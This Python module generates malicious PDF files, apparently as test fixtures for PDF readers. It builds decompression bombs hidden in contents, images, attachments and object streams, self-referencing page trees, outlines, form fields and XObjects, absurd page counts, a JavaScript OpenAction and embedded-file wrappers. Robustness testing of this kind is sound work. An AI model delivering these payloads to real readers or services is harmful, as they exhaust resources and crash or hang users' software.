"""PDF made to hurt a reader: bombs, loops, scripts, files inside; a few kilobytes each."""

from __future__ import annotations

import struct
import zlib
from functools import lru_cache

MIB = 1024 * 1024


def pdf(*objects: bytes, trailer: bytes = b"") -> bytes:
    """A PDF of these objects, numbered from 1; the first is the catalogue."""
    out, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    return out + b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (
        size, table, size, trailer, len(out),
    )  # fmt: skip


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<</Length %d%s>>\nstream\n%s\nendstream" % (len(data), entries, data)


def page_pdf(content: bytes, page: bytes = b"", *more: bytes, box: bytes = b"0 0 595 842") -> bytes:
    """One page: object 4 is its content, 5 and on are `more`."""
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[%s]/Contents 4 0 R%s>>" % (box, page),
        content,
        *more,
    )


@lru_cache(maxsize=1)
def gigabytes(size: int = 1024 * MIB) -> tuple[bytes, bytes]:
    """A few kilobytes that unpack to `size` blanks in two steps, and the PDF filters for them."""
    packer = zlib.compressobj(9)
    once = b"".join(packer.compress(b" " * MIB) for _ in range(size // MIB)) + packer.flush()
    return zlib.compress(once, 9), b"/Filter[/FlateDecode/FlateDecode]"


def pdf_bomb_in_contents() -> bytes:
    return page_pdf(stream(*gigabytes()))


def pdf_bomb_in_picture() -> bytes:
    data, filters = gigabytes()
    kind = b"/Type/XObject/Subtype/Image/Width 32768/Height 32768/ColorSpace/DeviceGray/BitsPerComponent 8"
    return page_pdf(
        stream(b"595 0 0 842 0 0 cm /I Do"), b"/Resources<</XObject<</I 5 0 R>>>>", stream(data, filters + kind)
    )


def pdf_bomb_in_attachment() -> bytes:
    data, filters = gigabytes()
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(a)4 0 R]>>>>>>",
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
        b"<</Type/Filespec/F(a)/EF<</F 5 0 R>>>>",
        stream(data, filters),
    )


def pdf_bomb_in_objects() -> bytes:
    """The catalogue lies in an object stream that unpacks to 300 MiB."""
    packer = zlib.compressobj(9)
    once = packer.compress(b"1 0 <</Type/Catalog/Pages 2 0 R>>")
    once += b"".join(packer.compress(b" " * MIB) for _ in range(300)) + packer.flush()
    filters = b"/Filter[/FlateDecode/FlateDecode]/Type/ObjStm/N 1/First 4"
    objects = [
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
        stream(zlib.compress(once, 9), filters),
    ]
    out, rows = b"%PDF-1.7\n", [struct.pack(">BIH", 0, 0, 65535), struct.pack(">BIH", 2, 4, 0)]
    for number, content in enumerate(objects, start=2):
        rows.append(struct.pack(">BIH", 1, len(out), 0))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = stream(b"".join(rows), b"/Type/XRef/Size 5/W[1 4 2]/Root 1 0 R")
    return out + b"5 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (table, len(out))


def pdf_huge_page() -> bytes:
    return page_pdf(stream(b"0 0 200000 200000 re f"), box=b"0 0 1000000 1000000")


def pdf_many_pages(number: int = 1_000_000) -> bytes:
    """One page object, listed again and again by page tree nodes of ten kids each."""
    objects = [b"<</Type/Catalog/Pages 2 0 R>>"]
    count, place = number, 2
    while count > 1:
        objects.append(b"<</Type/Pages/Count %d/Kids[%s]>>" % (count, b"%d 0 R " % (place + 1) * 10))
        count, place = count // 10, place + 1
    objects.append(b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 595 842]>>" % (place - 1))
    return pdf(*objects)


def pdf_claimed_pages() -> bytes:
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count 2000000000/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
    )


def pdf_tree_of_itself() -> bytes:
    return pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 3/Kids[2 0 R 2 0 R 2 0 R]>>")


def pdf_form_of_itself() -> bytes:
    """Outline, form field and name tree that are their own children."""
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R/Outlines 4 0 R/AcroForm<</Fields[5 0 R]>>/Names<</EmbeddedFiles 6 0 R>>>>",
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Annots[5 0 R]>>",
        b"<</First 4 0 R/Last 4 0 R/Next 4 0 R/Parent 4 0 R/Title(x)>>",
        b"<</T(a)/FT/Tx/V(b)/Kids[5 0 R 5 0 R 5 0 R]/Parent 5 0 R/Subtype/Widget/Rect[0 0 9 9]>>",
        b"<</Kids[6 0 R 6 0 R]>>",
    )


def pdf_picture_of_itself() -> bytes:
    """A form XObject that draws itself many times."""
    own = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 5 0 R>>>>"
    return page_pdf(stream(b"/X Do"), b"/Resources<</XObject<</X 5 0 R>>>>", stream(b"/X Do " * 50, own))


def pdf_many_letters(number: int = 1_000_000) -> bytes:
    line = b"(" + b"A " * 500 + b") Tj 0 -9 Td\n"
    data = zlib.compress(b"BT /F 1 Tf " + line * (number // 1000) + b"ET", 9)
    fonts = b"/Resources<</Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>"
    return page_pdf(stream(data, b"/Filter/FlateDecode"), fonts)


def pdf_acting(action: bytes = b"/S/JavaScript/JS(app.alert\\(1\\))") -> bytes:
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R/OpenAction<<%s>>>>" % action,
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
    )


def pdf_with_file(name: str, data: bytes) -> bytes:
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(a)4 0 R]>>>>>>",
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
        b"<</Type/Filespec/F(%s)/EF<</F 5 0 R>>>>" % name.encode(),
        stream(data),
    )
